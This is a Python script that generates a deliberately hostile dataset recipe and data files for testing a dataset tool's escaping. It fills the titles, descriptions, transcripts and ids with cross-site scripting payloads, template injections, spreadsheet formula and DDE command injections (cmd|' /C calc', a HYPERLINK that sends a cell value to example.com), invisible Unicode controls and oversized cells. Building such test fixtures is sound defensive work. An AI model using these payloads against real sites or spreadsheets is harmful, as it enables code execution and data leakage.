#!/usr/bin/env python3
"""Writes a recipe whose every free text tries to be something else than text.

    hostile_dataset.py FOLDER CLIPS    CLIPS is datasets/demo/speech/clips

The recipe is FOLDER/recipe.toml. Script elements, event handlers, addresses of scripts, bidirectional controls, formulas
of spreadsheets, ends of comments and of script elements, very long words and cells of a megabyte stand in title,
description, key words, publisher, contact, sources, texts, transcripts and ids of speakers. All scripts call the
function `tripwire`, so that a test sees when one has run.
"""

import json
import shutil
import sys
from pathlib import Path

PAYLOADS = [
    "<script>tripwire('script')</script>",
    "<img src=x onerror=tripwire('onerror')>",
    "<svg onload=tripwire('onload')><script>tripwire('svg')</script></svg>",
    "\"><script>tripwire('attribute')</script>",
    "' autofocus onfocus=tripwire('focus') x='",
    "\" autofocus onfocus=tripwire('focus') tabindex=1 x=\"",
    "</script><script>tripwire('json')</script>",
    "--><script>tripwire('comment')</script><!--",
    "</title></style></textarea><script>tripwire('rawtext')</script>",
    "javascript:tripwire('address')",
    "data:text/html,<script>parent.tripwire('data')</script>",
    "https://example.dk/\" onmouseover=tripwire('mouse') \"",
    "{{ constructor.constructor('tripwire(1)')() }} ${tripwire(2)} #{tripwire(3)}",
    "<iframe srcdoc=\"<script>parent.tripwire('frame')</script>\"></iframe>",
    "<base href=https://example.com/><meta http-equiv=refresh content=0;url=https://example.com/>",
    "<form action=https://example.com/><button>Send</button></form>",
    "<style>*{display:none!important}</style>",
    "\u202edrawkcab daer si siht\u202c \u2066isolate without end",
    "\ufeff\u200b\u200d\u00ad unseen signs \u2028 and \u2029 ends of lines",
    "]]><script>tripwire('cdata')</script>",
    "\\u003cscript\\u003etripwire('escape')\\u003c/script\\u003e",
    "=HYPERLINK(\"https://example.com/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362" * 20,
    "donaudampfschifffahrtselektrizitätenhauptbetriebswerk" * 40,
    "عربي ועברית 日本語 \U0001f469\u200d\U0001f469\u200d\U0001f467 " * 8,
]
FILLER = " Sætningen her er kun til for at fylde, så teksten er lang nok."


def toml(text: str) -> str:
    """A basic string of TOML: what does not print is escaped."""
    return '"' + "".join(c if c.isprintable() and c not in '"\\' else f"\\U{ord(c):08x}" for c in text) + '"'


def main(folder: Path, clips: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    rows = []
    for n, payload in enumerate(PAYLOADS):
        rows.append({"id": f"{payload[:60]}-{n}".replace("\t", " "), "title": payload, "text": payload + FILLER,
                     "domain": payload[:60], "genre": payload[:60], "url": PAYLOADS[9]})
        rows.append({"id": f"plain-{n}", "title": payload[::-1], "text": f"{n}: {FILLER} {payload * 8}"})
    mega = ("<b>" + "a" * 61 + "</b> ") * 14_000
    rows.insert(3, {"id": "megabyte-a", "title": "x" * 5_000, "text": mega})
    rows.append({"id": "megabyte-b", "text": "uafbrudt" * 130_000})
    # Ids are unseen-control-free by the gates; everything else is as hostile as it gets.
    keep = [r | {"id": "".join(c for c in r["id"] if c.isprintable())} for r in rows]
    with open(folder / "texts.jsonl", "w", encoding="utf-8") as out:
        for row in keep:
            out.write(json.dumps(row, ensure_ascii=True) + "\n")
    copied = sorted(clips.glob("*.flac"))[: len(PAYLOADS)]
    (folder / "clips").mkdir(exist_ok=True)
    with open(folder / "speech.tsv", "w", encoding="utf-8") as out:
        out.write("path\ttext\tspeaker_id\tgender\tage_group\tdialect\n")
        for clip, payload in zip(copied, PAYLOADS):
            shutil.copyfile(clip, folder / "clips" / clip.name)
            said = "".join(c if c.isprintable() else " " for c in payload)[:300]
            out.write(f"clips/{clip.name}\t{said}\t{said[:50]}\tfemale\tthirties\t{said[:60]}\n")
    hostile = " ".join(PAYLOADS[:9] + PAYLOADS[16:18])
    recipe = f"""\
[dataset]
id = "hostile"
version = "1.0.0"
created = "2026-11-01"
publisher = {toml(PAYLOADS[0])}
contact = {toml(PAYLOADS[9])}
keywords = [{", ".join(toml(p[:80]) for p in PAYLOADS[:10])}]
languages = ["da"]

[dataset.title]
da = {toml(PAYLOADS[0] + PAYLOADS[1] + PAYLOADS[17])}
en = {toml(PAYLOADS[6] + PAYLOADS[28][:300])}

[dataset.description]
da = {toml(hostile)}
en = {toml(hostile[::-1] + hostile)}

[dataset.about]
creators = [{{ name = {toml(PAYLOADS[1])} }}]
funding = [{toml(PAYLOADS[3])}]
changes = {{ da = {toml(PAYLOADS[2])}, en = {toml(PAYLOADS[6])} }}

[dataset.about.datasheet]
motivation = {{ da = {toml(PAYLOADS[3])}, en = {toml(PAYLOADS[7])} }}
limitations = {{ da = {toml(PAYLOADS[13])}, en = {toml(PAYLOADS[12])} }}

[[source]]
id = "texts"
kind = "text"
format = "jsonl"
files = ["texts.jsonl"]
license = "CC-BY-4.0"
legal_basis = {toml(PAYLOADS[1])}
attribution = {toml(PAYLOADS[5])}
language = "da"

[[source]]
id = "speech"
kind = "speech"
format = "tsv"
files = ["speech.tsv"]
license = "CC0-1.0"
legal_basis = "own work"
consent = {toml(PAYLOADS[2])}
"""
    (folder / "recipe.toml").write_text(recipe, encoding="utf-8")


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    main(Path(sys.argv[1]), Path(sys.argv[2]))
